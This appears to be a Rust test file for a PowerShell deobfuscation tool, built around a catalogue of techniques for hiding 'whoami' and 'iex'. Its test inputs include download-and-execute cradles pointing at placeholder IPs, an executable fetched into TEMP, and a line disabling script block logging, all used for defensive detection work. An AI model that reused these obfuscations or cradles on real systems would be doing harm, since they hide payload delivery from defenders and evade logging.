//! Constant expressions of PowerShell: each way of hiding a word, its spellings and near misses.
//!
//! The expected text is `whoami` throughout: what PowerShell's documented operators make of the
//! line, worked out by hand; codes and masks by Python (`ord`, `^`, `[::-1]`).

use super::{at, run, texts};

/// Lines that come to `whoami` and nothing else.
const WHOAMI_LINES: &[(&str, &[&str])] = &[
    (
        "string joining",
        &[
            "iex ('who'+'ami')",
            "iex('w'+\"ho\"+'am'+'i')",
            "iex ('who' +\n 'ami')",
            "IEX \u{2018}whoami\u{2019}",
            "Invoke-Expression (\"who\"+'ami')",
            "$c = \"who\"; $d = \"ami\"; Invoke-Expression \"$c$d\"",
            "iex \"$( 'who' + 'ami' )\"",
        ],
    ),
    (
        "format",
        &[
            "iex ('{0}{1}' -f 'who','ami')",
            "iex (\"{1}{0}\"-F'ami','who')",
            "\"{2}{0}{1}\"-f'oa','mi','wh' | iex",
            "iex ([string]::Format('{1}{0}','ami','who'))",
            "iex ('{0,-6}' -f 'whoami')",
            "iex (('{{0}}{0}' -f 'whoami').Replace('{0}',''))",
        ],
    ),
    (
        "join and split",
        &[
            "iex (-join ('who','ami'))",
            "iex (('w','h','o','a','m','i') -join '')",
            "iex ('w-h-o-a-m-i' -split '-' -join '')",
            "iex ([string]::Join('',('w','ho','ami')))",
            "iex ([string]::Concat('who','ami'))",
            "$OFS='';iex ([string]('who','ami'))",
            "iex (('w1h2o1a2m1i' -split '[12]') -join '')",
            "iex ('wXhYoXaYmXi'.Split('XY') -join '')",
        ],
    ),
    (
        "replacing",
        &[
            "iex ('whXYZami'.Replace('XYZ','o'))",
            "iex ('whXYZami' -replace 'xyz','o')",
            "iex ('whXYZami' -creplace 'XYZ','o')",
            "iex ('w12hoa3mi' -replace '\\d+')",
            "iex ('ohwami' -replace '(o)(h)(w)','$3$2$1')",
            "iex ([regex]::Replace('wh0ami','0','o'))",
            "iex ('who''ami'.Replace('''',''))",
            "iex ('whXami'.('Rep'+'lace').Invoke('X','o'))",
            "iex ('whXami'.\"re`PL`Ace\"('X','o'))",
        ],
    ),
    (
        "methods",
        &[
            "iex 'xxwhoamixx'.Substring(2,6)",
            "iex ('wami'.Insert(1,'ho'))",
            "iex ('whXXoami'.Remove(2,2))",
            "iex (('WHO'+'AMI').ToLower())",
            "iex ('##whoami#'.Trim('#'))",
        ],
    ),
    (
        "reversed",
        &[
            "iex (-join ('imaohw'[-1..-6]))",
            "iex ('imaohw'[5..0] -join '')",
            "$x='imaohw'.ToCharArray();[array]::Reverse($x);iex (-join $x)",
            "iex ([regex]::Matches('imaohw','.','RightToLeft') -join '')",
            "iex (-join([regex]::Matches('imaohw','.','RightToLeft') | % {$_.Value}))",
            "$s='imaohw'; $r=''; for($i=$s.Length-1;$i -ge 0;$i--){$r+=$s[$i]}; iex $r",
            "$i=0;$o='';while($i -lt 6){$o='imaohw'[$i]+$o;$i++};iex $o",
        ],
    ),
    (
        "character codes",
        &[
            "iex ([char]119+[char]104+[char]111+[char]97+[char]109+[char]105)",
            "iex ([char]0x77+'hoami')",
            "iex (-join ([char[]](119,104,111,97,109,105)))",
            "iex ((119,104,111,97,109,105 | % { [char]$_ }) -join '')",
            "iex (-join(119,104,111,97,109,105|ForEach-Object{[Convert]::ToChar($_)}))",
            "$OFS='';iex ([string][char[]](119,104,111,97,109,105))",
            "iex ([Text.Encoding]::ASCII.GetString([byte[]](0x77,0x68,0x6f,0x61,0x6d,0x69)))",
            "iex (New-Object String(,[char[]](119,104,111,97,109,105)))",
            "iex (('119 104 111 97 109 105'.Split(' ')|%{[char][int]$_})-join'')",
        ],
    ),
    (
        "other bases",
        &[
            "iex ((('77-68-6f-61-6d-69').Split('-') | % { [char]([convert]::ToInt16($_,16)) }) -join '')",
            "('167a150b157b141c155d151'.Split('abcd') | % { ([char]([convert]::ToInt16(([string]$_),8)))}) -join '' | iex",
            "[StRINg]::JOIn('' , ( '1110111>1101000>1101111>1100001>1101101>1101001' -spliT'>'|FOrEAch{( [cONvErT]::ToInT16(( [STRing]$_), 2) -As [cHar])}))|iex",
            "\"$(SeT-ITeM 'VAriAble:oFS' '' )\" +[STrIng]('77,68,6f,61,6d,69' -sPLit ','| FoReaCh-objeCT{([CoNVeRT]::TOint16(([StriNG]$_ ) ,16 ) -AS [char])}) +\"$(Set-iTEm 'vAriaBLe:oFS' ' ')\"| iex",
            "iex ([uri]::UnescapeDataString('%77%68oami'))",
        ],
    ),
    (
        "xor",
        &[
            "(60,35,36,42,38,34 | % { [char]($_ -bxor 0x4B) }) -join '' | iex",
            "iex ((60,35,36,42,38,34|%{[char]($_-bxor\"0x4B\")})-join'')",
            "foreach($b in 60,35,36,42,38,34){$o+=[char]($b -bxor 75)};iex $o",
            "$b=[byte[]](60,35,36,42,38,34);for($i=0;$i -lt $b.Length;$i++){$b[$i]=$b[$i] -bxor 75};iex ([Text.Encoding]::ASCII.GetString($b))",
            "$k=75;iex (-join(60,35,36,42,38,34|%{[char]($_ -bxor $k)}))",
        ],
    ),
    (
        "functions",
        &[
            "function d($s){ $r=''; foreach($c in $s.ToCharArray()){ $r += [char]([int]$c - 1) }; return $r }; iex (d 'xipbnj')",
            "function j { param([string]$a,[string]$b) $b+$a }; iex (j 'ami' 'who')",
        ],
    ),
    (
        "variables",
        &[
            "$a='i';$b='ex';&($a+$b) 'whoami'",
            "$a=$b='whoami';iex $b",
            "${e`x}='whoami'; iex ${ex}",
            "Set-Variable a 'who'; iex ((Get-Variable a).Value + 'ami')",
            "sv x 'iex'; &(gv x -ValueOnly) 'whoami'",
            "Set-Item Variable:q 'whoami'; iex (ls variable:q).Value",
            "$x,$y='ami','who';iex ($y+$x)",
            "$a = @'\nwhoami\n'@\niex $a",
            "$a = @\"\nwho$('ami')\n\"@; iex $a",
            "iex $(if($true){'who'+'ami'})",
        ],
    ),
    (
        "disguises of iex",
        &[
            ".('iex') ('who'+'ami')",
            "&('i'+'ex') 'whoami'",
            "i`e`X 'whoami'",
            "i''ex 'whoami'",
            "sal a iex; a('who'+'ami')",
            ".( $ShellId[1]+$ShellId[13]+'x') ('whoami')",
            "& ( $PSHome[4]+$PSHome[30]+'x') ('who'+'ami')",
            ".( $pshomE[21]+$PSHOME[34]+'X')('whoami')",
            ".( $env:ComSpec[4,26,25]-Join'') ('who'+'ami')",
            "& ( $env:ComSpec[4,15,25]-join'') ('whoami')",
            "& ((Get-Variable '*mdr*').Name[3,11,2]-Join'') ('who'+'ami')",
            "& ((GV '*MDR*').Name[3,11,2]-Join'')('whoami')",
            ".((Variable '*mdr*').Name[3,11,2]-Join'')('whoami')",
            ".( $VerbosePreference.ToString()[1,3]+'x'-Join'') ('who'+'ami')",
            ".(([String]$VerbosePreference)[1,3]+'x'-Join'') ('who'+'ami')",
            "& ( $env:Public[13]+$env:Public[5]+'x')('whoami')",
            "&(gcm *ke-ex*) ('who'+'ami')",
            "('who'+'ami') | & ('ie'+'x')",
            "'whoami' |.($env:comspec[4,15,25]-join'')",
            "\"whoami\" | %{ iex $_ }",
            "$ExecutionContext.InvokeCommand.InvokeScript('who'+'ami')",
            "[scriptblock]::Create('who'+'ami').Invoke()",
            "& ([scriptblock]::Create('who'+'ami'))",
            ".([scriptblock]::Create(('who'+'ami')))",
            "icm ([scriptblock]::Create('who'+'ami'))",
            "& {iex ('wh'+'oami')}",
        ],
    ),
];

#[test]
fn each_trick_comes_undone() {
    for (trick, lines) in WHOAMI_LINES {
        for line in *lines {
            let decoding = run(line);
            assert_eq!(decoding.last_text(), Some("whoami"), "{trick}: {line}: {decoding:?}");
            assert_eq!(decoding.failed, [], "{trick}: {line}");
        }
    }
}

#[test]
fn inside_a_command_line_too() {
    for (trick, lines) in WHOAMI_LINES {
        for line in *lines {
            // Typographic quotes and line ends in a here-string come through as they are.
            let quoted = format!("powershell -nop -c \"{}\"", line.replace('"', "\\\""));
            let decoding = run(&quoted);
            assert_eq!(decoding.last_text(), Some("whoami"), "{trick}: {quoted}: {decoding:?}");
        }
    }
}

#[test]
fn the_layer_names_all_that_was_undone() {
    let cases = [
        ("iex ('who'+'ami')", "String joining"),
        ("iex (\"{1}{0}\"-f'ami','who')", "Format operator"),
        ("iex (-join([char[]](119,104)+'oami'))", "[char] codes, -join"),
        ("iex 'whoami'", "Invoke-Expression"),
        ("&('i'+'ex') 'whoami'", "String joining, disguised names"),
        ("(60,35,36,42,38,34|%{[char]($_-bxor 75)})-join''|iex", "XOR, [char] codes, -join"),
    ];
    for (line, trick) in cases {
        let decoding = run(line);
        assert_eq!(decoding.layers.len(), 1, "{line}: {decoding:?}");
        assert_eq!(decoding.layers[0].trick, trick, "{line}");
    }
}

#[test]
fn a_part_is_written_anew_and_the_rest_stays() {
    let cases = [
        (
            "(New-Object Net.WebClient).('Down'+'loadString').Invoke('http://192.0.2.1/a')",
            "(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')",
        ),
        (
            "(New-Object ('Net.'+'WebClient')).DownloadString(('ht'+'tp://192.0.2.1/a'))",
            "(New-Object ('Net.WebClient')).DownloadString(('http://192.0.2.1/a'))",
        ),
        (
            "&(\"{0}{1}{2}\"-f 'New','-Ob','ject') ('Net.Web'+'Client')",
            "New-Object ('Net.WebClient')",
        ),
        ("N`ew-Ob`ject Net.WebClient", "New-Object Net.WebClient"),
        (
            "iwr ('ht'+'tp://192.0.2.1/'+'a.exe') -OutFile ($env:TEMP+'\\a.e'+'xe')",
            "iwr ('http://192.0.2.1/a.exe') -OutFile ($env:TEMP+'\\a.exe')",
        ),
        ("Start-Sleep 5; iex ('who'+'ami'); exit", "Start-Sleep 5; whoami; exit"),
        ("$r = iex ('who'+'ami')", "$r = $(whoami)"),
        ("try{iex ('who'+'ami')}catch{}", "try{whoami}catch{}"),
        ("$t=[tYpE]('con'+'vert'); $t::ToInt32($x,16)", "$t=[convert]; $t::ToInt32($x,16)"),
        (
            "$s['Script'+'BlockLogging']['Enable'+'Script']=0",
            "$s['ScriptBlockLogging']['EnableScript']=0",
        ),
        (
            "powershell -c \"echo ('say \\\"h'+'i\\\"')\"",
            "powershell -c \"echo ('say \\\"hi\\\"')\"",
        ),
    ];
    for (line, expected) in cases {
        let decoding = run(line);
        assert_eq!(decoding.last_text(), Some(expected), "{line}: {decoding:?}");
        assert_eq!(decoding.failed, [], "{line}");
        let layer = &decoding.layers[0];
        let replaced = at(line, layer.span);
        assert!(!replaced.is_empty() && layer.text.starts_with(&line[..layer.span.from]), "{line}");
        assert!(layer.text.ends_with(&line[layer.span.to..]), "{line}");
    }
}

#[test]
fn ordinary_scripts_stay_as_they_are() {
    let lines = [
        "$p='C:\\' + $name",
        "$p='C:\\Temp\\' + 'a.txt'",
        "Write-Host ('Hello ' + 'World')",
        "Get-ChildItem 'C:\\Temp' | % { $_.Name + '.bak' }",
        "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/u.ps1')",
        "$m = '{0} of {1}' -f 'one','two'",
        "$e = 'Module' ; throw ('{0}_NotFound' -f $e)",
        "$list = 'a','b','c'; $list -join ','",
        "$f='report.txt'; Copy-Item $f $f.Replace('.txt','.bak')",
        "$x = @('a','b'); Write-Output $x[0]",
        "Write-Output \"Line one`nLine two`ttab\"",
        "$d = Get-Date; \"today is $d\"",
        "& 'C:\\Program Files\\App\\app.exe' -x",
        "& $env:ComSpec /c dir",
        "$cmd = 'notepad.exe'; & $cmd",
        "Get-Process |\n  Where-Object { $_.CPU -gt 10 } |\n  Select-Object -First 5",
        "[char]13 + [char]10",
        "'a,b' -split ','",
        "$n = 'x'.PadLeft(10)",
        "$path = Join-Path $env:windir 'System32'; Test-Path \"$env:windir\\System32\"",
        "if ($a -eq 'b' -and $c) { 'yes' } else { 'no' }",
        "powershell -c \"Get-Service | Where {$_.Status -eq 'Running'}\"",
        "foreach ($i in 1..10) { Write-Host (\"Item \" + $i) }",
        "schtasks /create /tn x /tr \"C:\\a b\\c.exe\" /sc daily",
        "wmic process where \"name='a.exe' and x='b'+'c'\" get name",
        "sc.exe create x binPath= \"C:\\x.exe 'a'+'b'\"",
        "Invoke-Command -ComputerName S1 -ScriptBlock { Get-Service }",
        "$s = 'one ' +\n  'two ' +\n  'three'",
        "Get-WmiObject -Query (\"select * from Win32_\" + $class)",
    ];
    for line in lines {
        let decoding = run(line);
        assert_eq!(texts(&decoding), Vec::<&str>::new(), "{line}");
        assert_eq!(decoding.failed, [], "{line}");
    }
}

#[test]
fn what_is_not_constant_is_not_guessed() {
    let lines = [
        "iex ($a + 'ami')",
        "iex ('{0}' -f $x)",
        "$a = Get-Content x; iex ($a + 'ami')",
        "$a='who'; $a = Read-Host; iex ($a+'ami')",
        "$a='who'; if ($b) { $a='x' }; iex ($a+'ami')",
        "$a='who'; foreach ($i in $l) { $a += $i }; iex ($a+'ami')",
        "$a='who'; . ./x.ps1; iex ($a+$b)",
        "iex (Get-Content C:\\x.txt)",
        "iex $env:PAYLOAD",
        "iex \"$env:windir\\x.exe\"",
        "&($env:windir + '\\x.exe')",
    ];
    for line in lines {
        let decoding = run(line);
        assert!(
            !decoding.last_text().unwrap_or_default().contains("whoami"),
            "{line}: {decoding:?}"
        );
        assert_eq!(decoding.failed, [], "{line}");
    }
}

#[test]
fn what_looks_encoded_and_cannot_be_worked_out_is_told() {
    let cases = [
        (
            "iex (-join ($data | % { [char]($_ -bxor $key) }))",
            "(-join ($data | % { [char]($_ -bxor $key) }))",
            "depends on $data",
        ),
        (
            "iex (-join (1,2,3|%{[char]($_ -bxor $k)}))",
            "(-join (1,2,3|%{[char]($_ -bxor $k)}))",
            "depends on $k",
        ),
    ];
    for (line, place, reason) in cases {
        let decoding = run(line);
        assert_eq!(decoding.layers, [], "{line}");
        assert_eq!(decoding.failed.len(), 1, "{line}: {decoding:?}");
        assert_eq!(at(line, decoding.failed[0].span), place, "{line}");
        assert!(decoding.failed[0].reason.contains(reason), "{:?}", decoding.failed);
    }
}

/// `whoami`, sealed by a program of another language (Python, `cryptography`) in the form of
/// `ConvertFrom-SecureString -Key (1..16)`.
const SEALED: &str = include_str!("sealed.txt");

#[test]
fn a_secure_string_is_opened_with_its_key() {
    let sealed = SEALED.trim();
    let forms = [
        "iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR(('{}'|ConvertTo-SecureString -k (1..16)))))",
        "$s = ConvertTo-SecureString '{}' -Key (1..16); iex (New-Object Net.NetworkCredential('',$s)).Password",
        "iex ((New-Object Management.Automation.PSCredential ' ',(ConvertTo-SecureString -k (1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16) '{}')).GetNetworkCredential().Password)",
    ];
    for form in forms {
        let decoding = run(&form.replace("{}", sealed));
        assert_eq!(decoding.last_text(), Some("whoami"), "{form}: {decoding:?}");
        assert_eq!(decoding.layers[0].trick, "SecureString");
    }
    let wrong = forms[0].replace("{}", sealed).replace("1..16", "2..17");
    let decoding = run(&wrong);
    assert_eq!(decoding.layers, []);
    assert!(decoding.failed[0].reason.contains("key"), "{decoding:?}");
    let without = "iex (New-Object Net.NetworkCredential('',('01000000d08c9ddf'|ConvertTo-SecureString))).Password";
    assert!(run(without).failed[0].reason.contains("DPAPI"));
}
